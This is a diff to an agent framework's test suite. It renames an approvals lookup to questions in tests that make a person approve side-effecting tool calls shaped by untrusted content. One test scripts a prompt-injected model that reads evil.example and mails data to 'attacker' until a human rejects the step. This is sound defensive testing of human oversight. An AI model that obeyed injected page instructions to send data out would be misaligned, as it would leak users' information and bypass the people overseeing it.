@@ -105,7 +105,7 @@ async def test_a_side_effect_under_untrusted_content_waits_for_a_person() -> Non
         waiting = await started(runs, agent)
         assert triple(waiting.state) == WAITING
         assert web.noted == []
-        (question,) = await runs.approvals(waiting.state.id)
+        (question,) = await runs.questions(waiting.state.id)
         assert isinstance(question, AgentApprovalRequest)
         assert "untrusted content from run input, tool:page may have decided this call" in str(
             question.metadata
@@ -138,7 +138,7 @@ async def test_a_model_that_obeys_a_page_gets_a_person_between_itself_and_the_wo
     obeys = ScriptedModel([calls("page", url="evil.example"), calls("mail", to="attacker"), says("Done.")])
     async with bureau.process(Surfer, None, web, model=obeys) as runs:
         waiting = await started(runs, Surfer, "read it")
-        (question,) = await runs.approvals(waiting.state.id)
+        (question,) = await runs.questions(waiting.state.id)
         await runs.reject(question.id, comment="no")
         await resumed(runs, waiting.state.id)
     assert web.mailed == []
@@ -180,7 +180,7 @@ async def test_a_label_survives_a_restart(number: int) -> None:
         waiting = await resumed(runs, run_id)
         assert triple(waiting.state) == WAITING
     async with bureau.process(agent, program, web) as runs:
-        (question,) = await runs.approvals(run_id)
+        (question,) = await runs.questions(run_id)
         await runs.approve(question.id)
         assert triple((await resumed(runs, run_id)).state) == COMPLETED
     assert web.noted == ["x"]
@@ -277,7 +277,7 @@ async def test_a_child_starts_with_what_its_parent_has_read() -> None:
     async with bureau.process(Parent, None, web, Child, plan) as runs:
         waiting = await started(runs, Parent)
         assert triple(waiting.state) == WAITING
-        (question,) = await runs.approvals(waiting.state.id)
+        (question,) = await runs.questions(waiting.state.id)
         await runs.approve(question.id)
         result = await resumed(runs, waiting.state.id)
     assert (triple(result.state), web.noted) == (COMPLETED, ["x"])
